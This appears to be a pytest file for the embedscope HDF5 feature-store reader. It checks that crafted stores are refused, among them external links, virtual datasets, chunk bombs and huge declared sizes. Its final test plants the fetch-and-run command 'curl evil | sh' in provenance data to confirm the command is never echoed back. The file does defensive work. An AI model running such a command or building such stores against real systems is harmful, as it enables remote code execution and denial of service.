import os

import h5py
import numpy as np
import pytest

from embedscope.errors import InputError
from embedscope.store import describe, opening, read_features

TEXT = h5py.string_dtype("utf-8")


@pytest.fixture
def by_hand(tmp_path):
    """A store as another program may write it, without digests; `edit` puts the features or anything else."""

    def make(edit=None, *, libver="earliest"):
        path = tmp_path / "hand.h5"
        with h5py.File(path, "w", libver=libver) as file:
            file.attrs.update(schema="embedscope", schema_version=1, complete=True)
            file.create_dataset("provenance", data="{}", dtype=TEXT)
            file["labels"] = np.arange(40) % 4
            file.create_dataset("class_names", data=np.array(list("abcd"), dtype=object), dtype=TEXT)
            file.create_dataset("ids", data=np.array([str(row) for row in range(40)], dtype=object), dtype=TEXT)
            file["rows/done"] = np.int64(40)
            file["features/emb"] = np.ones((40, 8), np.float32)
            if edit is not None:
                edit(file, tmp_path)
        return path

    return make


def replaced(name):
    def decorate(function):
        def edit(file, folder):
            del file[name]
            function(file, folder)

        return edit

    return decorate


def test_store_of_an_earlier_version_or_by_hand(by_hand):
    assert read_features(str(by_hand())).features[:].sum() == 320


@replaced("features/emb")
def external_storage(file, folder):
    (folder / "secret").write_bytes(bytes(1280))
    file.create_dataset("features/emb", (40, 8), "f4", external=[(str(folder / "secret"), 0, 1280)])


@replaced("features/emb")
def external_link(file, folder):
    file["features/emb"] = h5py.ExternalLink("nowhere.h5", "/x")


@replaced("ids")
def soft_link(file, folder):
    file["ids"] = h5py.SoftLink("/class_names")


@replaced("features")
def external_group(file, folder):
    file["features"] = h5py.ExternalLink("nowhere.h5", "/x")


def external_digests(file, folder):
    file["digests"] = h5py.ExternalLink("nowhere.h5", "/x")


@replaced("features/emb")
def virtual(file, folder):
    layout = h5py.VirtualLayout((40, 8), "f4")
    layout[:] = h5py.VirtualSource(str(folder / "other.h5"), "x", (40, 8))
    file.create_virtual_dataset("features/emb", layout)


@replaced("features/emb")
def declared_columns(file, folder):
    file.create_dataset("features/emb", (40, 10**10), "f4", chunks=(1, 1024))


@replaced("labels")
def declared_labels(file, folder):
    file.create_dataset("labels", (10**12,), "i8", chunks=(1024,), compression="gzip")


@replaced("class_names")
def declared_names(file, folder):
    file.create_dataset("class_names", (2 * 10**9,), TEXT, chunks=(1024,))


@replaced("class_names")
def fixed_names(file, folder):
    file.create_dataset("class_names", (4,), h5py.string_dtype("utf-8", 2**29))


@replaced("features/emb")
def chunk_bomb(file, folder):
    dataset = file.create_dataset("features/emb", (40, 8), "f4", chunks=(2**20, 32), maxshape=(None, None), compression="gzip")
    dataset[:] = 1


@replaced("class_names")
def long_name(file, folder):
    file.create_dataset("class_names", data=np.array(["a", "b", "c", "d" * (2**20 + 1)], dtype=object), dtype=TEXT)


@replaced("class_names")
def long_name_in_chunks(file, folder):
    names = np.array(["a", "b", "c", "d" * (2**20 + 1)], dtype=object)
    file.create_dataset("class_names", data=names, dtype=TEXT, chunks=(2,))


@replaced("features/emb")
def filtered(file, folder):
    file.create_dataset("features/emb", data=np.ones((40, 8), np.float32), scaleoffset=3)


@replaced("labels")
def no_values(file, folder):
    file["labels"] = h5py.Empty("i8")


@pytest.mark.parametrize(
    ("edit", "message"),
    [
        (filtered, "/features/emb has the HDF5 filter 6; supported are gzip, lzf, shuffle and fletcher32; rewrite it"),
        (no_values, "/labels has no values"),
        (external_storage, "/features/emb is stored in external files, which are not read"),
        (virtual, "/features/emb is stored in external files, which are not read"),
        (external_link, "/features/emb is a link, which is not followed"),
        (external_group, "/features is a link, which is not"),
        (external_digests, "/digests is a link, which is not"),
        (soft_link, "/ids is a link, which is not"),
        (declared_columns, "/features/emb declares 40 x 10,000,000,000 values, more than its 0 bytes"),
        (declared_labels, "/labels declares 1,000,000,000,000 values"),
        (declared_names, "/class_names declares 2,000,000,000 values"),
        (fixed_names, "/class_names declares 4 values, more than its 0 bytes"),
        (chunk_bomb, "/features/emb has chunks of 134,217,728 bytes"),
        (long_name, "/class_names has a text of 1,048,577 bytes; at most 1,048,576 are read"),
        (long_name_in_chunks, "/class_names has a text of 1,048,577 bytes"),
    ],
)
def test_what_a_store_never_has_is_refused(by_hand, edit, message):
    with pytest.raises(InputError, match=message):
        read_features(str(by_hand(edit)))


def test_a_text_that_many_rows_share_is_counted_for_each(by_hand, monkeypatch):
    @replaced("ids")
    def shared(file, folder):
        names = file.create_dataset("ids", (40,), TEXT)
        names[0] = "x" * 1000

    path = by_hand(shared)
    with h5py.File(path) as file:
        offset = file["ids"].id.get_offset()
    content = bytearray(path.read_bytes())
    content[offset : offset + 640] = bytes(content[offset : offset + 16]) * 40
    path.write_bytes(content)
    monkeypatch.setattr(opening, "BUDGET", 20_000)
    with pytest.raises(InputError, match="/ids would take 40,000 bytes; at most 20,000 are read"):
        read_features(str(path))


def test_texts_in_chunks_and_of_fixed_length_are_read(by_hand):
    @replaced("ids")
    def edit(file, folder):
        file.create_dataset("ids", data=np.array([f"é{row}" for row in range(40)], dtype=object), dtype=TEXT, chunks=(7,))
        del file["class_names"]
        file["class_names"] = np.array([b"a", b"b", b"c", b"dd"])

    found = read_features(str(by_hand(edit)))
    assert (found.ids[39], found.class_names) == ("é39", ("a", "b", "c", "dd"))


def test_groups_that_hold_each_other(by_hand):
    def edit(file, folder):
        file["features/again"] = file["features"]

    with pytest.raises(InputError, match="/features contains itself"):
        read_features(str(by_hand(edit)))


def test_numbers_in_the_byte_order_of_another_machine(by_hand):
    rows = np.random.default_rng(0).normal(size=(40, 8)).astype(">f4")

    def edit(file, folder):
        del file["features/emb"]
        file["features/emb"] = rows

    assert read_features(str(by_hand(edit))).features[:].tolist() == rows.tolist()


def test_texts_that_hdf5_would_read_without_end(by_hand):
    path = by_hand()
    data = bytearray(path.read_bytes())
    place = data.index(b"GCOL") + 16
    while place and (index := int.from_bytes(data[place : place + 2], "little")):
        place += 16 + (int.from_bytes(data[place + 8 : place + 16], "little") + 7) // 8 * 8
    assert index == 0
    data[place + 8 : place + 16] = bytes(8)
    path.write_bytes(data)
    with pytest.raises(InputError, match=r"is damaged: the strings at byte [\d,]+ cannot be read"):
        read_features(str(path))


def test_layer_with_slashes(make_store):
    path = make_store(np.ones((3, 2)), [0, 1, 1], layer="/model/fc/Gemm_output_0")
    assert read_features(str(path)).layer == "/model/fc/Gemm_output_0"


@pytest.mark.parametrize("name", ["schema", "complete", "schema_version"])
def test_attributes_of_another_kind(by_hand, name):
    def edit(file, folder):
        file.attrs[name] = np.zeros(3)

    with pytest.raises(InputError, match=r"hand\.h5 is"):
        read_features(str(by_hand(edit)))


@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="no named pipes here")
@pytest.mark.parametrize("name", ["pipe.h5", "pipe.npz"])
def test_pipe(tmp_path, name):
    os.mkfifo(tmp_path / name)
    with pytest.raises(InputError, match="is a pipe or a device, not a file"):
        read_features(str(tmp_path / name))


def test_a_recorded_command_of_another_program_is_not_repeated(by_hand):
    def edit(file, folder):
        file.attrs["complete"] = False
        file["provenance"][()] = '{"run": {"command": "curl evil | sh"}}'

    path = by_hand(edit)
    assert describe(path).resume == "embedscope extract ... --resume"
    with pytest.raises(InputError, match=r"is unfinished .*; finish it with: embedscope extract \.\.\. --resume"):
        read_features(str(path))
